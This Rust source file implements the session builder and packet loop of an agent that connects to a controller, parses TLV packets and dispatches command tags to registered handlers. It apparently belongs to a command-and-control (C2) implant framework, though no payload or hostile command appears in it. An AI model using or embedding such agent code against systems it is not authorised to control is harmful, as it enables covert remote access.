//! Session builder and connection loop.
//!
//! The [`SessionBuilder`] collects handlers and configuration. The
//! [`Session`] then serves one controller connection:
//! 1. Read bytes and split them into packets
//! 2. Take the command tag from each request
//! 3. Dispatch it through the registry
//! 4. Write the response back
//! 5. Stop after a `QUIT` response or when the peer closes
//!
//! # Example
//!
//! ```ignore
//! use api_calls::api::{craft, ApiStatus};
//! use api_calls::Session;
//!
//! #[tokio::main]
//! async fn main() -> api_calls::Result<()> {
//!     let mut session = Session::builder()
//!         .builtins()
//!         .handle(40001, |_ctx| craft(ApiStatus::Success))
//!         .build()?;
//!
//!     let stream = tokio::net::TcpStream::connect("127.0.0.1:8888").await?;
//!     session.run(stream).await?;
//!     Ok(())
//! }
//! ```

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use crate::api::{craft, response_status, ApiCalls, ApiStatus};
use crate::builtins;
use crate::c2::{generate_uuid, C2};
use crate::config::SessionConfig;
use crate::error::{ApiError, Result};
use crate::tlv::{build_packet_frame, PacketBuffer, TlvPacket, TLV_TYPE_TAG};

/// Why [`Session::run`] returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionEnd {
    /// A handler answered `QUIT` and the response was sent.
    Quit,
    /// The peer closed the stream.
    Closed,
}

/// Builder for configuring and creating a [`Session`].
pub struct SessionBuilder {
    calls: ApiCalls<C2>,
    config: SessionConfig,
    /// First registration failure, reported by `build()`.
    error: Option<ApiError>,
}

impl SessionBuilder {
    /// Create a builder with an empty registry and default config.
    pub fn new() -> Self {
        Self {
            calls: ApiCalls::new(),
            config: SessionConfig::default(),
            error: None,
        }
    }

    /// Register the built-in commands.
    pub fn builtins(mut self) -> Self {
        let result = builtins::register(&mut self.calls);
        self.record(result);
        self
    }

    /// Register a command handler.
    ///
    /// A later registration for the same tag replaces this one.
    pub fn handle<F>(mut self, tag: i32, handler: F) -> Self
    where
        F: Fn(&mut C2) -> TlvPacket + Send + Sync + 'static,
    {
        let result = self.calls.register(tag, handler);
        self.record(result);
        self
    }

    /// Replace the whole configuration.
    pub fn config(mut self, config: SessionConfig) -> Self {
        self.config = config;
        self
    }

    /// Set the maximum accepted packet body size.
    ///
    /// Default: 16 MB
    pub fn max_packet_size(mut self, limit: u32) -> Self {
        self.config.max_packet_size = limit;
        self
    }

    /// Set the stream read buffer size.
    ///
    /// Default: 64 KB
    pub fn read_buffer_size(mut self, size: usize) -> Self {
        self.config.read_buffer_size = size;
        self
    }

    /// Set the session uuid instead of generating one.
    pub fn uuid(mut self, uuid: impl Into<String>) -> Self {
        self.config.uuid = Some(uuid.into());
        self
    }

    fn record(&mut self, result: Result<()>) {
        if let Err(e) = result {
            tracing::error!("Handler registration failed: {}", e);
            self.error.get_or_insert(e);
        }
    }

    /// Validate the configuration and build the session.
    ///
    /// # Errors
    ///
    /// Returns the first registration error, or a config error.
    pub fn build(self) -> Result<Session> {
        if let Some(e) = self.error {
            return Err(e);
        }
        self.config.validate()?;

        let uuid = self.config.uuid.clone().unwrap_or_else(generate_uuid);
        tracing::debug!(
            "Session {} built with {} handlers",
            uuid,
            self.calls.len()
        );

        Ok(Session {
            calls: self.calls,
            ctx: C2::new(uuid),
            config: self.config,
        })
    }
}

impl Default for SessionBuilder {
    fn default() -> Self {
        Self::new()
    }
}

/// One agent session: a registry, its context and its configuration.
///
/// The session owns its registry; dropping the session releases it.
pub struct Session {
    calls: ApiCalls<C2>,
    ctx: C2,
    config: SessionConfig,
}

impl Session {
    /// Create a new session builder.
    pub fn builder() -> SessionBuilder {
        SessionBuilder::new()
    }

    /// Connection context handed to handlers.
    pub fn context(&self) -> &C2 {
        &self.ctx
    }

    /// Registry of this session.
    pub fn calls(&self) -> &ApiCalls<C2> {
        &self.calls
    }

    /// Registry of this session, for registering commands at runtime.
    pub fn calls_mut(&mut self) -> &mut ApiCalls<C2> {
        &mut self.calls
    }

    /// Active configuration.
    pub fn config(&self) -> &SessionConfig {
        &self.config
    }

    /// Serve one request packet and return the response.
    ///
    /// Requests without a `TLV_TYPE_TAG` field are answered with
    /// `USAGE_ERROR`.
    pub fn handle_packet(&mut self, request: TlvPacket) -> TlvPacket {
        let tag = match request.get_int(TLV_TYPE_TAG) {
            Some(tag) => tag,
            None => {
                tracing::warn!("Request without command tag ({} fields)", request.len());
                return craft(ApiStatus::UsageError);
            }
        };

        self.ctx.begin(request);
        self.calls.dispatch(&mut self.ctx, tag)
    }

    /// Serve requests from `stream` until `QUIT` or end of stream.
    ///
    /// The stream is not shut down on return; closing it is up to the
    /// caller.
    ///
    /// # Errors
    ///
    /// Returns I/O errors and protocol errors (oversized or malformed
    /// packets). The session's registry stays intact either way.
    pub async fn run<S>(&mut self, mut stream: S) -> Result<SessionEnd>
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let mut buffer = PacketBuffer::with_max_packet_size(self.config.max_packet_size);
        let mut buf = vec![0u8; self.config.read_buffer_size];

        loop {
            let n = match stream.read(&mut buf).await {
                Ok(0) => {
                    tracing::info!("Session {} closed by peer", self.ctx.uuid());
                    return Ok(SessionEnd::Closed);
                }
                Ok(n) => n,
                Err(e) => return Err(ApiError::Io(e)),
            };

            buffer.feed(&buf[..n]);
            while let Some(request) = buffer.next_packet()? {
                let response = self.handle_packet(request);

                stream.write_all(&build_packet_frame(&response)?).await?;
                stream.flush().await?;

                if response_status(&response) == Some(ApiStatus::Quit) {
                    tracing::info!("Session {} quit", self.ctx.uuid());
                    return Ok(SessionEnd::Quit);
                }
            }
        }
    }

    /// Consume the session and hand its registry back.
    pub fn into_calls(self) -> ApiCalls<C2> {
        self.calls
    }

    /// Tear the session down, releasing every registered handler.
    ///
    /// Returns the connection context.
    pub fn end(mut self) -> C2 {
        self.calls.free();
        self.ctx
    }
}
